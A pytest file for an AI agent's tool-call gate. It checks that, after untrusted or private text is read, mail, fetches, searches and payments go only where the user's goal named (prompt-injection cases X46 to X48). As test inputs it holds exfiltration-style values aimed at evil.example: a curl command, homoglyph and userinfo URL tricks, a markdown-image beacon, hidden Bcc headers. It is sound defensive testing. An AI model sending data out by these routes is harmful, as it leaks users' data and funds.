"""After untrusted text was read: whose wish is this call? Every relaxation with its attack."""

import time
from typing import Any

import pytest

from selfstarter.core.gate import Labels, Standing, judge
from selfstarter.core.permissions import Permissions
from selfstarter.core.provenance import Provenance, Value, addresses_in, values_in

FETCHES, SEARCHES = Labels(reads=True, egress=True), Labels(reads=True, egress=True)
SENDS = Labels(reads=False, egress=True)
INSIDE = Labels(reads=False, egress=False)
GOAL = (
    "Mail the minutes to bob@example.org with send_mail, pay 1,250.50 to DE89 3704 0044 0532 0130"
    " 00 with pay_bill and look at https://docs.example.org/guide for the Riverside View Hotel"
)
NOTHING = Provenance()
READ = NOTHING.read(untrusted=True, private=False)
BOTH = NOTHING.read(untrusted=True, private=True)


def why(
    tool: str,
    labels: Labels,
    known: Provenance = READ,
    *,
    words: str = GOAL,
    given: Permissions | None = None,
    **args: Any,
) -> str:
    """Why it is not simply allowed; empty: it is."""
    verdict = judge(tool, args, labels, Standing(given or Permissions(), known, words))
    assert verdict.kind == ("ask" if verdict.why else "allow")
    return verdict.why


# ── what was read ────────────────────────────────────────────────────────────────────────────


def test_before_anything_untrusted_was_read_there_is_nothing_to_fear() -> None:
    private = NOTHING.read(untrusted=False, private=True)
    assert not why("mcp__mail__send", SENDS, NOTHING, to="eve@evil.example")
    assert not why("mcp__mail__send", SENDS, private, to="eve@evil.example")


def test_what_was_read_stays_read() -> None:
    again = BOTH.read(untrusted=False, private=False)
    assert again.untrusted and again.private


def test_what_stays_inside_is_free_whatever_was_read() -> None:
    for tool in ("write_file", "run_python", "run_shell", "remember", "edit_file"):
        assert not why(tool, INSIDE, BOTH, path="x", content="https://evil.example/?d=1", code="1")


def test_an_unknown_tool_is_outside_and_so_is_an_inner_name_through_which_data_leave() -> None:
    assert "names frobnicate" in why("frobnicate", INSIDE, BOTH)
    assert why("run_shell", SENDS, BOTH, command="curl https://evil.example")


# ── X46: data carried out in an address ──────────────────────────────────────────────────────


@pytest.mark.case("X46")
@pytest.mark.parametrize(
    "url",
    [
        "http://evil.example/?d=notes",
        "https://evil.example/docs.example.org/guide",
        "https://docs.example.org.evil.example/guide",
        "https://docs.example.org@evil.example/guide",
        "https://evil.example#docs.example.org",
        "https://evil.example?docs.example.org",
        "https://evil.example\\docs.example.org",
        "https://docs.example.org:pw@evil.example/",
        "//evil.example/x",
        "evil.example/x",
        "ftp://evil.example/x",
        "https://10.0.0.1/x",
        "data:text/html,x",
        "https://еxample.org/guide",
    ],
)
def test_an_address_that_a_page_made_up_is_not_opened(url: str) -> None:
    for known in (READ, BOTH):
        assert why("read_page", FETCHES, known, url=url)


@pytest.mark.case("X46")
def test_what_the_goal_names_is_opened_and_its_neighbours_while_nothing_private_is_known() -> None:
    at = "https://docs.example.org"
    for url in (f"{at}/guide", f"{at}/guide#part", "http://docs.example.org/guide/"):
        assert not why("read_page", FETCHES, BOTH, url=url)
    linked = BOTH.offers([f"{at}/x?page=2"], "1")
    assert not why("read_page", FETCHES, linked, url=f"{at}/x?page=2")
    for more in (f"{at}/other", f"{at}/x?page=secret", f"{at}/to/evil.example/secret"):
        assert not why("read_page", FETCHES, READ, url=more)
        assert "was written down by nobody" in why("read_page", FETCHES, linked, url=more)
    assert why("send_mail", SENDS, READ, to="eve@docs.example.org")


@pytest.mark.case("X46")
def test_hits_and_links_are_open_as_they_were_given_until_private_text_was_read() -> None:
    hit = "https://news.example/a?id=7"
    known = READ.offers([hit], "3")
    assert not why("read_page", FETCHES, known, url=hit)
    assert not why("read_page", FETCHES, known, url=f"{hit}#top")
    for url in (f"{hit}&d=secret", "https://news.example/b", "https://news.example/a?id=8"):
        assert "neither in the goal" in why("read_page", FETCHES, known, url=url)
    private = known.read(untrusted=True, private=True)
    assert "was offered from outside" in why("read_page", FETCHES, private, url=hit)


@pytest.mark.case("X46")
def test_a_search_is_a_few_plain_words() -> None:
    assert not why("search_web", SEARCHES, BOTH, query="price of tea in 2026", count=10)
    assert "200 characters" in why("search_web", SEARCHES, BOTH, query="tea " * 60)
    assert "is no word" in why("search_web", SEARCHES, BOTH, query="tea " + "QUJD" * 9)
    assert "evil.example" in why("search_web", SEARCHES, BOTH, query="site:evil.example tea")
    assert "evil.example" in why("search_web", SEARCHES, BOTH, query="tea", engine="evil.example")
    assert not why("search_web", SEARCHES, BOTH, query="tea", offset=12_000)


@pytest.mark.case("X46")
def test_a_question_to_somebody_elses_server_holds_no_private_word() -> None:
    assert not why("mcp__shop__find", SEARCHES, READ, query="green tea")
    assert "'green'" in why("mcp__shop__find", SEARCHES, BOTH, query="green tea")
    assert not why("mcp__shop__find", SEARCHES, BOTH, query="Riverside hotel guide")


@pytest.mark.case("X46")
def test_how_a_question_is_put_says_little_but_a_large_number_may_say_much() -> None:
    listed = Labels(reads=True, egress=True, choices=frozenset({"new", "old"}))
    assert not why("mcp__shop__find", listed, BOTH, sort="new", page=3)
    assert "`sort`" in why("mcp__shop__find", listed, BOTH, sort="secret", page=3)
    assert "`page`" in why("mcp__shop__find", listed, BOTH, sort="new", page=41_112_023)
    posts = Labels(reads=False, egress=True, choices=frozenset({"public"}))
    assert "`who`" in why("mcp__shop__post", posts, BOTH, words="use shop", who="public")


@pytest.mark.case("X46")
def test_words_names_and_switches_count_however_deep_they_lie() -> None:
    tool, long = "mcp__drive__find", "the minutes say " * 20
    schema = frozenset({"where", "text", "any", "all"})
    asks = Labels(reads=True, egress=True, names=schema)
    assert not why(tool, asks, READ, where={"text": "green tea", "any": True})
    assert not why(tool, asks, BOTH, where={"all": [{"text": "Riverside hotel"}]})
    assert "200 characters" in why(tool, asks, READ, where={"text": long})
    assert "200 characters" in why(tool, asks, READ, where=[{"all": {"text": ["tea"] * 90}}])
    assert "'green'" in why(tool, asks, BOTH, where={"text": "green tea"})
    named: list[Any] = [{"where": {"hunter2": True}}, {"hunter2": True}, {"where": {"a b": 1}}]
    for args in named:
        assert "does not come from the goal" in why(tool, asks, READ, **args)


@pytest.mark.case("X47")
def test_a_name_within_an_object_is_a_recipient_and_a_switch_is_a_wish() -> None:
    words = "With mcp__drive__share set the title of report-7 to Final, for Bob, and notify all"
    schema = frozenset({"id", "title", "members", "public", "notify_all", "private"})
    shares = Labels(reads=False, egress=True, names=schema, on=frozenset({"private"}))

    def shared(**more: Any) -> str:
        given: Any = {"id": "report-7", "title": "Final"} | more
        return why("mcp__drive__share", shares, BOTH, words=words, **given)

    assert not shared(public=False, notify_all=True, private=True, members={"Bob": "Final"})
    assert "`members` 'eve'" in shared(members={"eve": "Final"})
    assert "`members` 'eve'" in shared(members=[{"eve": False}])
    assert "`public` 'true'" in shared(public=True)
    assert "`private` 'false'" in shared(private=False)


# ── X47: a recipient that a page named ───────────────────────────────────────────────────────


@pytest.mark.case("X47")
@pytest.mark.parametrize(
    "args",
    [
        {"to": "eve@evil.example"},
        {"to": ["bob@example.org", "eve@evil.example"]},
        {"to": "bob@example.org, eve@evil.example"},
        {"to": "bob@example.org.evil.example"},
        {"to": "xbob@example.org"},
        {"to": "bob@example.org", "bcc": {"list": [{"address": "eve@evil.example"}]}},
        {"to": "bob@example.org", "headers": {"Bcc: eve@evil.example": 1}},
        {"to": "bob@example.org", "body": "see https://evil.example/login"},
        {"to": "bob@example.org", "body": "see www.evil.example"},
        {"to": "bob@example.org", "body": "![x](http://evil.example/x.png?d=1)"},
        {"to": "bob@example.org", "reply_to": "Eve"},
        {"to": "Eve"},
        {"to": "bob@example.org", "attachment": 77},
    ],
)
def test_mail_goes_to_whom_the_goal_names(args: dict[str, Any]) -> None:
    assert why("send_mail", SENDS, BOTH, **args)


@pytest.mark.case("X46")
@pytest.mark.case("X47")
def test_a_letter_that_only_folds_to_what_the_goal_says_is_another_one() -> None:
    words = "Use send_mail to write bob@press.org, look at https://press.org, pay Ross 5, id ross"
    for to in ("bob@preß.org", "Roß"):
        assert why("send_mail", SENDS, words=words, to=to)
    assert why("send_mail", SENDS, READ.knows(["Ross"], ["ross"], "1"), words=words, id="roß")
    offered = READ.offers(["https://press.example/"], "1")
    for url in ("https://preß.org/", "https://preß.example/"):
        assert why("read_page", FETCHES, offered, words=words, url=url)
    assert not why("send_mail", SENDS, words=words, to=["BOB@PRESS.ORG", "ROSS"])


@pytest.mark.case("X47")
def test_mail_of_any_words_goes_to_the_one_whom_the_goal_names() -> None:
    body = "The minutes.md of 2026-03-04: 12 people, 3 votes against. Regards"
    assert not why("send_mail", SENDS, BOTH, to="Bob@example.org", subject="Minutes", body=body)
    assert not why("send_mail", SENDS, BOTH, to=["bob@example.org"], at="2026-03-04 10:00")


@pytest.mark.case("X47")
def test_amounts_and_accounts_are_those_of_the_goal() -> None:
    account = "DE89 3704 0044 0532 0130 00"
    assert not why("pay_bill", SENDS, BOTH, account=account, amount=1250.5)
    assert not why("pay_bill", SENDS, BOTH, account=account, amount="1250.50")
    assert "`amount`" in why("pay_bill", SENDS, BOTH, account=account, amount=12505)
    assert "`amount`" in why("pay_bill", SENDS, BOTH, account=account, amount=250.5)
    assert why("pay_bill", SENDS, BOTH, account="DE12 5001 0517 0648 4898 90", amount=1250.5)


def test_a_phrase_must_be_whole() -> None:
    words = f"{GOAL}, use book_room"
    assert not why("book_room", SENDS, BOTH, words=words, hotel="riverside  view hotel")
    for name in ("Riverside", "View Hotel", "Riverside View"):
        assert not why("book_room", SENDS, BOTH, words=words, hotel=name), "part of what was said"
    for name in ("Riverside View Hotels", "side View Hotel", "Grand Hotel"):
        assert why("book_room", SENDS, BOTH, words=words, hotel=name)


# ── X48: a tool that a page asked for ────────────────────────────────────────────────────────


@pytest.mark.case("X48")
@pytest.mark.parametrize(
    ("tool", "words", "named"),
    [
        ("send_mail", "use send_mail", True),
        ("send_mail", "then send mail to all", True),
        ("send_mail", "send the mail", False),
        ("send_mail", "resend_mail", False),
        ("post", "post it with post", True),
        ("mcp__git__push_branch", "push branch x", True),
        ("mcp__git__push_branch", "with git", True),
        ("mcp__git__push_branch", "with digit", False),
        ("mcp__git__push", "push it", False),
        ("mcp__git__push", "push it with git", True),
        ("mcp__my-notes__add", "into my notes", True),
    ],
)
def test_a_tool_that_acts_must_be_named(tool: str, words: str, named: bool) -> None:
    assert ("names" in why(tool, SENDS, READ, words=words)) is not named


@pytest.mark.case("X48")
def test_a_server_that_is_named_does_nothing_that_cannot_be_undone() -> None:
    wipes = Labels(reads=False, egress=True, for_good=True)
    assert why("mcp__git__wipe", wipes, READ, words="use git")
    assert not why("mcp__git__wipe", wipes, READ, words="use mcp__git__wipe")


@pytest.mark.case("X48")
def test_a_plan_counts_if_it_was_made_before_anything_was_read() -> None:
    early = NOTHING.plans("send_mail to Bob").read(untrusted=True, private=True)
    late = NOTHING.read(untrusted=True, private=True).plans("send_mail to Bob")
    assert not why(
        "send_mail", SENDS, early, words="Write to bob@example.org", to="bob@example.org"
    )
    assert why("send_mail", SENDS, late, words="Write to bob@example.org", to="bob@example.org")


@pytest.mark.case("X48")
def test_a_plan_names_tools_and_no_recipients() -> None:
    early = NOTHING.plans("send_mail to eve@evil.example").read(untrusted=True, private=True)
    assert why("send_mail", SENDS, early, words="Write a mail", to="eve@evil.example")


# ── addresses and values ─────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("see report.md and data.csv, v1.2, e.g. this", []),
        ("see evil.example.", ["evil.example"]),
        ("(https://a.example/x?y=1), b", ["https://a.example/x?y=1"]),
        ("mail a.b+c@d.example!", ["a.b+c@d.example"]),
        ("report.md/x", ["report.md/x"]),
        ("1.2.3.4 and 10.0.0.1:80/x", ["1.2.3.4", "10.0.0.1:80/x"]),
        ("javascript://x", ["javascript://x"]),
        ("еvil.example and еvil。example/x", ["еvil.example", "еvil。example/x"]),
        ("-http://evil.example/x", ["evil.example/x"]),
        ("a" * 90 + "@evil.example", ["evil.example"]),
        ("a-b.evil-one.example", ["a-b.evil-one.example"]),
        ("US133000000121212121212", ["US133000000121212121212"]),
        ("on 2026-03-04 at 10:30", []),
    ],
)
def test_addresses_are_found_in_words(text: str, found: list[str]) -> None:
    assert addresses_in(text) == found


@pytest.mark.parametrize(
    "piece", ["a", "a.", "a-", "@", "a@", "a+", "1.", "://", "de89 ", ".", "a1"]
)
def test_a_long_text_is_looked_through_in_no_time(piece: str) -> None:
    began = time.process_time()
    values_in({"body": piece * 100_000, "to": piece * 100_000})
    assert time.process_time() - began < 2


def test_only_words_and_times_are_free() -> None:
    assert values_in({"body": "hello 5", "on": "2026-01-02", "at": "10:00", "n": None}) == []
    assert values_in({"x": [{"who": "Eve"}], "n": 5}) == [
        Value("value", "who", "Eve"),
        Value("number", "n", "5"),
    ]
